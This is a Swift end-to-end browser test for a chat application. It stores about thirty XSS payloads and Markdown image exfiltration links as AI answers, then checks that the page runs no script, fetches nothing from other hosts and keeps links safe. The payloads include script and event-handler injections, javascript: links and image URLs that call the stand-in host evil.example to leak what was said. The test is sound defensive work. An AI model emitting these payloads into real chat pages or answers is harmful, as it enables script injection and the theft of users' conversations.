// Answers that attack the page in ways that worked on other chat systems (SECURITY.md names the
// advisories): the page shows them as text, and nothing runs or is fetched.

import ChatProtocol
import FoundationEssentials
import Postgres
import TestSupport
import Testing

extension EndToEnd.ConversationsInABrowser {
    @Suite(
        "Answers as data",
        .enabled(
            if: BrowserDriver.whatIsMissing == nil,
            "needs chromium and chromedriver: make setup installs them"
        )
    )
    struct HostileAnswerTests {
        /// Each tries to run `attacked`, or to fetch from another server.
        private static let attacks = [
            // Raw HTML, frames and SVG images.
            "<script>window.attacked = 1</script>",
            "<img src=x onerror=\"window.attacked = 2\">",
            "<iframe srcdoc=\"<script>parent.attacked = 3</script>\"></iframe>",
            "<iframe src=\"javascript:parent.attacked = 4\" sandbox=\"allow-scripts allow-same-origin\">",
            "<svg onload=\"window.attacked = 5\"><use href=\"data:image/svg+xml,x\"></svg>",
            "<video><source onerror=\"window.attacked = 6\"></video>",
            "<details open ontoggle=\"window.attacked = 7\">x</details>",
            "<form action=\"https://evil.example/\"><button formaction=\"javascript:attacked=8\">x",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<style>@import url(https://evil.example/style.css)</style>",
            "<base href=\"https://evil.example/\">",
            "</div></li></ol><script>window.attacked = 9</script>",
            // The same where Markdown ends or escapes something.
            "`<img src=x onerror=window.attacked=10>`",
            "```html\n<script>window.attacked = 11</script>\n```\n</code><script>attacked=11</script>",
            "```mermaid\ngraph TD\nA[<img src=x onerror=window.attacked=12>] --> B\n```",
            "| a | <img src=x onerror=window.attacked=13> |\n|---|---|\n| <svg/onload=attacked=13> | b |",
            "$$\\href{javascript:window.attacked=14}{x}$$",
            // Links with scripts.
            "[x](javascript:window.attacked=15)",
            "[x](JaVaScRiPt&#58;window.attacked=16)",
            "[x](\u{1}javascript:window.attacked=17)",
            "[x](data:text/html,<script>opener.attacked=18</script>)",
            "[x](vbscript:attacked=19) <javascript:window.attacked=19>",
            "[x]: javascript:window.attacked=20\n\n[x]",
            "[x](//evil.example/ \"onmouseover=attacked=21\")",
            // Images that exfiltrate messages (EchoLeak, CVE-2025-32711).
            "![x](https://evil.example/leak?what=was-said)",
            "![x](//evil.example/leak)",
            "[![x](https://evil.example/a.png)](https://evil.example/b)",
            "![x][y]\n\n[y]: https://evil.example/leak",
            "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        ]

        @Test("nothing in an answer runs or is fetched, and links lead where they say")
        func attacks() throws {
            let server = try StoaServer()
            try server.addUser("ann")
            let peer = try server.connect(try server.signIn("ann"))
            let conversation = try peer.createConversation(title: "<b onclick=attacked=22>x")
            var mirror = try peer.watch(conversation)
            let database = try server.database()
            for attack in Self.attacks {
                // No model can be made to say this, so its answer is replaced.
                let answer = try peer.say(attack, in: conversation).answer.id
                try peer.follow(&mirror, until: answer)
                let rows = try database.query(
                    "UPDATE messages SET body = $1 WHERE id = $2 RETURNING 1",
                    [.text(attack), .uuid(answer.uuid)]
                )
                #expect(rows.count == 1)
            }
            let browser = try Browser(BrowserDriver())
            try browser.signIn("ann", on: server)
            try browser.open("\(server.origin)/#conversation=\(conversation)")
            try browser.wait("document.querySelectorAll('#messages > li').length >= 50")
            for selector in ["#messages > li:first-child", "#messages > li:last-child"] {
                try browser.script("document.querySelector(\(quoted(selector))).scrollIntoView()")
            }
            // A fetch, or a script after a failed fetch, would have started before this returns.
            try browser.script(
                """
                return fetch(location.href).then(() => new Promise((done) =>
                    requestAnimationFrame(() => requestAnimationFrame(done))))
                """
            )
            let shown = try browser.texts()
            #expect(shown.contains(Self.attacks[Self.attacks.count - 1]))
            #expect(try browser.script("return window.attacked ?? null") == .null)
            #expect(try browser.script(Self.forbidden).elements.isEmpty)
            let links = try browser.script(
                "return [...document.querySelectorAll('#messages a')].map((a) => a.href + ' ' + a.rel)"
            ).elements.compactMap(\.text)
            for link in links {
                #expect(link.hasPrefix("https:") || link.hasPrefix("http:"), "\(link)")
                #expect(link.contains("noopener") && link.contains("noreferrer"), "\(link)")
            }
            #expect(try browser.script(Self.fetched).elements.isEmpty)
        }

        /// The elements and attributes of the thread that no message may make.
        private static let forbidden = """
            return [...document.querySelectorAll('#messages *')].filter((node) =>
                /^(script|iframe|object|embed|img|picture|video|audio|source|style|link|meta|base|form)$/i
                    .test(node.localName)
                || [...node.attributes].some((one) => /^on|^style$/i.test(one.name))
            ).map((node) => node.outerHTML)
            """

        /// The addresses on other servers from which the page has fetched something.
        private static let fetched = """
            return performance.getEntriesByType("resource").map((entry) => entry.name)
                .filter((name) => !name.startsWith(location.origin))
            """

        @Test("the corpus of hostile texts, as questions and as answers, runs and fetches nothing")
        func corpus() throws {
            let path = "\(SharedFiles.packageRoot)/Tests/WebTestSupport/hostile.json"
            let corpus = String(decoding: try Data(contentsOf: URL(filePath: path)), as: UTF8.self)
            let server = try StoaServer()
            try server.addUser("ann")
            let browser = try Browser(BrowserDriver())
            try browser.signIn("ann", on: server)
            let imported = try browser.script(Self.importing(corpus)).text
            let count = try #require(imported.flatMap { Int($0) })
            #expect(count >= 200)
            try browser.wait("document.querySelector('#conversation-list [data-conversation-id]')")
            try browser.click("#conversation-list [data-conversation-id]")
            // Older messages are loaded when the user scrolls up.
            try browser.wait(
                """
                (() => {
                    document.querySelector('#thread').scrollTop = 0;
                    return document.querySelectorAll('#messages > li').length >= \(count);
                })()
                """
            )
            // The libraries are loaded, and have drawn what they can.
            try browser.wait("document.querySelector('#messages math')")
            try browser.wait("document.querySelector('#messages :is(.code-keyword, .code-tag)')")
            #expect(try browser.script("return window.attacked ?? null") == .null)
            #expect(try browser.script(Self.forbidden).elements.isEmpty)
            #expect(try browser.script(Self.fetched).elements.isEmpty)
            let escaping = try browser.script(
                """
                return [...document.querySelectorAll('#messages .bubble')].filter((bubble) => {
                    const { left, right } = bubble.getBoundingClientRect();
                    const list = document.querySelector('#messages').getBoundingClientRect();
                    return left < list.left - 1 || right > list.right + 1;
                }).map((bubble) => bubble.textContent.slice(0, 100))
                """
            ).elements
            #expect(escaping.isEmpty, "\(escaping)")
        }

        /// Imports the corpus as one conversation in another system's form, and returns the number of
        /// its messages. What would call `alert` marks the window instead.
        private static func importing(_ corpus: String) -> String {
            """
            const texts = \(corpus).map((one) => [one].flat().map((part) =>
                typeof part === "string" ? part : part[0].repeat(part[1])).join("")
                .replaceAll("alert", "window.attacked=").replaceAll("\\0", "")
                .toWellFormed().slice(0, 3000));
            const start = Date.parse("2024-04-02T10:00:00Z");
            const messages = texts.map((text, index) => ({
                messageId: `t${index}`, text: text || "x", sender: index % 2 ? "GPT-4o" : "User",
                parentMessageId: index
                    ? `t${index - 1}` : "00000000-0000-0000-0000-000000000000",
                isCreatedByUser: index % 2 === 0, error: false, unfinished: false,
                createdAt: new Date(start + index * 1000).toISOString(),
            }));
            const body = JSON.stringify({
                conversationId: "44444444-aaaa-4bbb-8ccc-000000000009", endpoint: "openAI",
                title: "Corpus", branches: true, recursive: false, options: {}, messages,
            });
            return fetch("/api/v1/import", { method: "POST", body })
                .then((answer) => answer.json()).then(({ report }) => String(report.created.message));
            """
        }
    }
}
